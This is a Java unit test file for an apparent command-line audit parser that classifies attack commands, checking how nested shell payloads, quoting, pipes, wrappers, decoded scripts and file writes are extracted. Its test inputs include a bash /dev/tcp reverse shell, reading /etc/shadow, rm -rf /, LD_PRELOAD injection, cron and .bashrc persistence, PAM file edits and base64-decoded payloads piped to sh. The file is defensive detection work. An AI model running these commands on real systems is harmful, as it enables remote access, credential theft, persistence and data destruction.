package io.ward.attack.classify;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.List;
import org.junit.jupiter.api.Test;

/** How an audited command line is read: shell payloads, quoting, substitutions, pipes, wrappers and writes. */
class CommandExtractorTest {

    @Test
    void auditedProcessIsKnownByArgv0AndByItsResolvedExecutable() {
        SimpleCommand top = commands("/bin/dash", "/bin/sh -c ls").get(0);
        assertEquals(List.of("sh", "dash"), top.programs());
        assertEquals(0, top.depth());
    }

    @Test
    void shellPayloadOfAJoinedArgvIsTheRestOfTheLine() {
        List<SimpleCommand> commands = commands("/bin/dash", "/bin/sh -c ls -la /tmp");
        assertEquals(List.of("ls"), commands.get(1).programs());
        assertEquals("-la /tmp", commands.get(1).argsText());
        assertEquals(1, commands.get(1).depth());
    }

    @Test
    void quotedPayloadIsSplitOnOperatorsAndSubstitutions() {
        List<SimpleCommand> commands = commands(null, "sh -c 'id; echo \"$(whoami)\" && uname -a | tee /tmp/o || true & ps'");
        assertEquals(List.of("sh", "id", "whoami", "echo", "uname", "tee", "true", "ps"),
                commands.stream().map(c -> c.programs().get(0)).toList());
        assertEquals("tee", commands.get(4).pipedTo());
        assertEquals(List.of("/tmp/o"), commands.get(5).writes());
    }

    @Test
    void singleQuotesKeepOperatorsLiteral() {
        List<SimpleCommand> commands = commands(null, "sh -c \"echo 'a; rm -rf /' > /tmp/x\"");
        assertEquals(2, commands.size());
        assertEquals("a; rm -rf / > /tmp/x", commands.get(1).argsText());
        assertEquals(List.of("/tmp/x"), commands.get(1).overwrites());
    }

    @Test
    void redirectionsAreWritesButDescriptorDuplicationIsNot() {
        SimpleCommand bash = commands(null, "sh -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 2>>/tmp/err'").get(1);
        assertEquals(List.of("/dev/tcp/203.0.113.9/4444", "/tmp/err"), bash.writes());
        assertEquals(List.of("/dev/tcp/203.0.113.9/4444"), bash.overwrites());
    }

    @Test
    void wrappersExposeTheCommandTheyRun() {
        List<SimpleCommand> commands = commands(null, "sudo -u root timeout 5s env A=1 nice -n 5 cat /etc/shadow");
        assertEquals(List.of("sudo", "timeout", "env", "nice", "cat"),
                commands.stream().map(c -> c.programs().get(0)).toList());
        assertEquals("/etc/shadow", commands.get(4).argsText());
    }

    @Test
    void assignmentsAndKeywordsAreNotPrograms() {
        List<SimpleCommand> commands = commands(null, "bash -c 'if true; then LD_PRELOAD=/tmp/x.so ls; fi; for i in 1 2; do id; done'");
        assertEquals(List.of("bash", "true", "ls", "id"), commands.stream().map(c -> c.programs().get(0)).toList());
        assertEquals(List.of("LD_PRELOAD=/tmp/x.so"), commands.get(2).assignments());
    }

    @Test
    void copiesAndTeeWritesTheirDestination() {
        assertEquals(List.of("/etc/cron.d/job"), commands(null, "cp /tmp/job /etc/cron.d/job").get(0).overwrites());
        SimpleCommand tee = commands(null, "tee -a /root/.bashrc").get(0);
        assertEquals(List.of("/root/.bashrc"), tee.writes());
        assertEquals(List.of(), tee.overwrites());
    }

    @Test
    void suAndEvalPayloadsAreRead() {
        assertEquals("id", commands(null, "su -c id root").get(1).programs().get(0));
        assertEquals("whoami", commands(null, "sh -c 'eval \"whoami\"'").get(2).programs().get(0));
    }

    @Test
    void trapHandlersAndFindExecCommandsAreRead() {
        assertEquals(List.of("bash", "trap", "nohup", ".r", "sleep"),
                programs(null, "bash -c \"trap 'nohup /tmp/.r' EXIT; sleep 1\""));
        List<SimpleCommand> find = commands(null, "find /srv -type f -exec shred -u {} \\; -quit");
        assertEquals(List.of("find", "shred"), find.stream().map(c -> c.programs().get(0)).toList());
        assertEquals("-u {}", find.get(1).argsText());
    }

    @Test
    void literalsDecodedIntoAShellAreReadAsScripts() {
        // aWQ7IHVuYW1lIC1h is "id; uname -a"; 6964 is "id" in hex; "di" reversed is "id"
        assertEquals(List.of("sh", "echo", "id", "uname", "base64", "sh"),
                programs(null, "sh -c 'echo aWQ7IHVuYW1lIC1h | base64 -d | sh'"));
        assertEquals(List.of("sh", "echo", "id", "xxd", "bash"), programs(null, "sh -c 'echo 6964 | xxd -r -p | bash'"));
        assertEquals(List.of("sh", "echo", "id", "rev", "sh"), programs(null, "sh -c 'echo di | rev | sh'"));
        // encoding, not decoding, and binary results are left alone
        assertEquals(List.of("sh", "echo", "base64"), programs(null, "sh -c 'echo aWQ7IHVuYW1lIC1h | base64'"));
        assertEquals(List.of("sh", "echo", "base64"), programs(null, "sh -c 'echo AAECAwQFBgc= | base64 -d'"));
    }

    @Test
    void sedInPlaceWritesItsFiles() {
        SimpleCommand sed = commands(null, "sed -i 's/a/b/' /etc/pam.d/sshd /etc/pam.d/login").get(0);
        assertEquals(List.of("/etc/pam.d/sshd", "/etc/pam.d/login"), sed.writes());
        assertEquals(List.of(), sed.overwrites());
        assertEquals(List.of(), commands(null, "sed 's/a/b/' /etc/pam.d/sshd").get(0).writes());
    }

    @Test
    void nestingIsBounded() {
        List<SimpleCommand> commands = commands(null, "nohup ".repeat(20) + "id");
        assertEquals(6, commands.size());
        assertEquals(5, commands.get(5).depth());
        assertEquals(List.of("sh", "sh", "sh"),
                commands(null, "sh -c sh -c sh -c id").stream().map(c -> c.programs().get(0)).toList());
    }

    private static List<String> programs(String path, String command) {
        return commands(path, command).stream().map(c -> c.programs().get(0)).toList();
    }

    private static List<SimpleCommand> commands(String path, String command) {
        return CommandExtractor.commands(new AuditProcess(path, command, null));
    }
}
